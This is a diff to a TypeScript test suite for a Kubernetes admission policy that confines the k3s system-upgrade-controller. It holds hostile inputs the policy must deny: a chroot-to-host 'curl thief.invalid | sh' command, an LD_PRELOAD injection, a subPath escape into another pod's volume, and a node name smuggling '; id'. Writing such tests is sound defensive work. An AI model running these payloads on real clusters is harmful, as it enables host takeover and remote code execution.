@@ -30,6 +30,8 @@ function container(name: string, spec: any, plan: any, latest: string, image = s
             { name: "SYSTEM_UPGRADE_PLAN_LATEST_VERSION", value: latest },
         ],
         imagePullPolicy: "IfNotPresent",
+        // What the API server defaults before admission.
+        resources: {}, terminationMessagePath: "/dev/termination-log", terminationMessagePolicy: "File",
     };
 }
 
@@ -89,7 +91,7 @@ describe("system-upgrade-controller's admission policy", () => {
         const upgrade = job.spec.template.spec.containers[0];
         const withUpgrade = (change: object) => ({ ...job, spec: { ...job.spec, template: { ...job.spec.template, spec: { ...job.spec.template.spec, containers: [{ ...upgrade, ...change }] } } } });
         const denied = createJob(withUpgrade({ command: ["/bin/sh", "-c", "chroot /host sh -c 'curl thief.invalid | sh'"] }));
-        assert.deepEqual(denied, { denied: true, by: "groundwork-system-upgrade-controller", message: "system-upgrade-controller may run only its Plans' upgrade Jobs in system-upgrade (their images, commands and flags, as system-upgrade), never a container of another's" });
+        assert.deepEqual(denied, { denied: true, by: "groundwork-system-upgrade-controller", message: "system-upgrade-controller may run only its Plans' upgrade Jobs in system-upgrade: their containers in order, with their images, commands, flags, environment and mounts exactly, in the host's namespaces, as system-upgrade" });
         assert.equal(createJob(withUpgrade({ image: "busybox:1.37" })).denied, true, "another image");
         assert.equal(createJob(withUpgrade({ image: "rancher/k3s-upgrade:v1.33.1-k3s1" })).denied, true, "another k3s version");
         assert.equal(createJob(withUpgrade({ env: [...upgrade.env, { name: "LD_PRELOAD", value: "/host/tmp/x.so" }] })).denied, true, "LD_PRELOAD");
@@ -113,11 +115,35 @@ describe("system-upgrade-controller's admission policy", () => {
         assert.deepEqual(update(node({ "groundwork.dev/pool": "gpu" })), { denied: true, by: "groundwork-system-upgrade-controller", message: "system-upgrade-controller may only cordon and uncordon a node and set its plan.upgrade.cattle.io/* labels, never change its other labels, annotations or taints" });
         assert.equal(update(node({}, { taints: [{ key: "x", effect: "NoExecute" }] })).denied, true, "a taint");
         assert.equal(update({ ...node(), metadata: { ...node().metadata, annotations: { "flannel.alpha.coreos.com/public-ip": "203.0.113.9" } } }).denied, true, "flannel's address");
+        assert.equal(update({ ...node(), metadata: { ...node().metadata, finalizers: ["thief.invalid/keep"] } }).denied, true, "a finalizer (review s24 N3)");
     });
 
-    it("admits its own CRD and denies another", () => {
-        const crd = (name: string) => admissionOutcome(policies, { group: "apiextensions.k8s.io", version: "v1", resource: "customresourcedefinitions", operation: "UPDATE", namespace: "", name, username: SUC, oldObject: { metadata: { name } }, object: { metadata: { name }, spec: { conversion: { strategy: "Webhook" } } } });
-        assert.equal(crd("plans.upgrade.cattle.io").denied, false);
-        assert.equal(crd("certificates.cert-manager.io").denied, true);
+    it("admits its own CRD and denies another, or its own with a conversion webhook (review s24 N4)", () => {
+        const crd = (name: string, strategy: string) => admissionOutcome(policies, { group: "apiextensions.k8s.io", version: "v1", resource: "customresourcedefinitions", operation: "UPDATE", namespace: "", name, username: SUC, oldObject: { metadata: { name } }, object: { metadata: { name }, spec: { conversion: { strategy } } } });
+        assert.equal(crd("plans.upgrade.cattle.io", "None").denied, false);
+        assert.equal(crd("plans.upgrade.cattle.io", "Webhook").denied, true);
+        assert.equal(crd("certificates.cert-manager.io", "None").denied, true);
+    });
+
+    it("denies a Job whose pod leaves the host's namespaces, mounts into a pod's volume, or reorders its steps (review s24 R1, N1, N2)", () => {
+        const job = agentJob();
+        const pod = job.spec.template.spec;
+        const withPod = (change: object) => ({ ...job, spec: { ...job.spec, template: { ...job.spec.template, spec: { ...pod, ...change } } } });
+        const upgrade = pod.containers[0];
+        const [prepare, drain] = pod.initContainers;
+        assert.equal(createJob(withPod({})).denied, false, "as built");
+        assert.equal(createJob(withPod({ hostPID: false })).denied, true, "out of the host's PID namespace");
+        const subPath = { ...upgrade, volumeMounts: [{ name: "host-root", mountPath: "/host", subPath: "var/lib/kubelet/pods/u/volumes/kubernetes.io~empty-dir/x" }, upgrade.volumeMounts[1]] };
+        assert.equal(createJob(withPod({ containers: [subPath] })).denied, true, "a subPath into a pod's volume");
+        assert.equal(createJob(withPod({ containers: [{ ...upgrade, workingDir: "/host/tmp" }] })).denied, true, "a field SUC never sets");
+        assert.equal(createJob(withPod({ initContainers: [] })).denied, true, "the upgrade without its prepare and drain");
+        assert.equal(createJob(withPod({ initContainers: [drain, prepare] })).denied, true, "the steps reordered");
+        assert.equal(createJob(withPod({ initContainers: [prepare, { ...drain, args: [...drain.args.slice(0, 2), ...drain.args.slice(4), ...drain.args.slice(2, 4)] }] })).denied, true, "the drain's flags reordered");
+        assert.equal(createJob(withPod({ initContainers: [prepare, { ...drain, args: ["drain", "oci-agent-1", "--ignore-daemonsets", "--ignore-daemonsets", ...drain.args.slice(4)] }] })).denied, true, "the controller's selector dropped");
+        assert.equal(createJob(withPod({ nodeName: "oci-server-1" })).denied, true, "a node named past the scheduler");
+        const env = (name: string, value: object) => ({ ...upgrade, env: upgrade.env.map((e: any) => (e.name === name ? { name, ...value } : e)) });
+        assert.equal(createJob(withPod({ containers: [env("SYSTEM_UPGRADE_NODE_NAME", { value: "server-1; id" })] })).denied, true, "the node's name not from the pod");
+        assert.equal(createJob(withPod({ containers: [env("SYSTEM_UPGRADE_PLAN_LATEST_VERSION", { value: "v1.33.1-k3s1" })] })).denied, true, "another version");
+        assert.equal(createJob(withPod({ containers: [env("SYSTEM_UPGRADE_PLAN_NAME", { value: "k3s-server" })] })).denied, true, "the agent's prepare under the server's name");
     });
 });
